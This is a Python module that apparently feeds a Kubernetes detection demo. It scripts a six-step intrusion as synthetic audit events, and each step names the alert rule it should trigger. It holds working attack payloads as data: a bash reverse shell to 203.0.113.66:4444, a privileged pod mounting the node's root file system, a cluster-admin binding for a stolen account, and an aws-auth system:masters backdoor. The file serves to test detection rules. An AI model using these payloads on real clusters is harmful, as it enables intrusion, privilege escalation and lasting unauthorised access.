"""The attack: what somebody does who found a way in, step by step.

Each step names the rule that must notice it.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from random import Random

from demo.audit_event import Target, audit_event
from demo.identities import (
    ACCOUNT,
    ANONYMOUS_SCANNER,
    NODES,
    STOLEN_OPERATOR,
    Identity,
    Json,
    service_account,
)

RBAC = "rbac.authorization.k8s.io"

# The payment service's token, copied out of its pod and used from elsewhere.
STOLEN_TOKEN = service_account(
    "shop",
    "payment",
    "payment-7d5c9b6f4-m8r2x",
    NODES[1],
    "kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc",
    source_ip="203.0.113.66",
)


@dataclass(frozen=True)
class Request:
    """One request of a step."""

    who: Identity
    verb: str
    target: Target
    body: Json | None = None
    code: int = 0
    stage: str = "ResponseComplete"


@dataclass(frozen=True)
class Step:
    """One step of the attack: what happens, and the rule that must raise an alert."""

    title: str
    rule: str
    requests: tuple[Request, ...]

    def events(self, random: Random, now_us: Callable[[], int]) -> list[Json]:
        """The step's audit events, stamped with now_us() (microseconds since the epoch)."""
        return [
            audit_event(
                random,
                now_us(),
                request.who,
                request.verb,
                request.target,
                body=request.body,
                code=request.code,
                stage=request.stage,
            )
            for request in self.requests
        ]


_ANONYMOUS = Identity(
    ANONYMOUS_SCANNER.user,
    ANONYMOUS_SCANNER.user_agent,
    ANONYMOUS_SCANNER.source_ip,
    'RBAC: allowed by RoleBinding "debug/shop" of ClusterRole "view" to User "system:anonymous"',
)

_ESCAPE_POD: Json = {
    "kind": "Pod",
    "apiVersion": "v1",
    "metadata": {"name": "node-tuner", "namespace": "shop"},
    "spec": {
        "hostPID": True,
        "nodeName": NODES[0].name,
        "containers": [
            {
                "name": "tuner",
                "image": "docker.io/library/alpine:3.20",
                "command": ["sh", "-c", "sleep 86400"],
                "securityContext": {"privileged": True},
                "volumeMounts": [{"name": "host", "mountPath": "/host"}],
            }
        ],
        "volumes": [{"name": "host", "hostPath": {"path": "/", "type": "Directory"}}],
    },
}

_REVERSE_SHELL = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"]

_CLUSTER_ADMIN_BINDING: Json = {
    "kind": "ClusterRoleBinding",
    "apiVersion": f"{RBAC}/v1",
    "metadata": {"name": "metrics-reader-binding"},
    "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [{"kind": "ServiceAccount", "name": "payment", "namespace": "shop"}],
}

_AWS_AUTH: Json = {
    "data": {
        "mapUsers": f"- userarn: arn:aws:iam::{ACCOUNT}:user/backup\n"
        "  username: backup\n  groups:\n  - system:masters\n"
    }
}

STEPS = (
    Step(
        "An anonymous client probes the API server and finds a door left open",
        "Anonymous Request Allowed",
        (
            Request(ANONYMOUS_SCANNER, "get", Target(path="/api"), code=403),
            Request(ANONYMOUS_SCANNER, "list", Target("namespaces"), code=403),
            Request(_ANONYMOUS, "list", Target("pods", "shop", query={"limit": "500"})),
        ),
    ),
    Step(
        "The payment service's token is used from the internet, with kubectl",
        "Service Account Used From Outside With Interactive Client",
        (
            Request(
                STOLEN_TOKEN,
                "create",
                Target("selfsubjectrulesreviews", group="authorization.k8s.io"),
                body={"kind": "SelfSubjectRulesReview", "spec": {"namespace": "shop"}},
            ),
            Request(STOLEN_TOKEN, "list", Target("secrets", query={"limit": "500"}), code=403),
            Request(STOLEN_TOKEN, "get", Target("secrets", "shop", "payment-db")),
        ),
    ),
    Step(
        "A privileged pod mounts the node's root file system",
        "Privileged Workload Created",
        (Request(STOLEN_OPERATOR, "create", Target("pods", "shop"), body=_ESCAPE_POD),),
    ),
    Step(
        "A reverse shell is opened in that pod",
        "Suspicious Command Executed in Pod",
        (
            Request(
                STOLEN_OPERATOR,
                "get",  # kubectl 1.31 and later: websockets
                Target(
                    "pods",
                    "shop",
                    "node-tuner",
                    subresource="exec",
                    query={"command": _REVERSE_SHELL, "container": "tuner", "stdin": "true"},
                ),
                code=101,
                stage="ResponseStarted",
            ),
        ),
    ),
    Step(
        "The stolen service account is made cluster-admin",
        "Binding to cluster-admin Created",
        (
            Request(
                STOLEN_OPERATOR,
                "create",
                Target("clusterrolebindings", group=RBAC),
                body=_CLUSTER_ADMIN_BINDING,
            ),
        ),
    ),
    Step(
        "An IAM user is given system:masters in aws-auth, to come back later",
        "aws-auth ConfigMap Changed",
        (
            Request(
                STOLEN_OPERATOR,
                "patch",
                Target("configmaps", "kube-system", "aws-auth"),
                body=_AWS_AUTH,
            ),
        ),
    ),
)
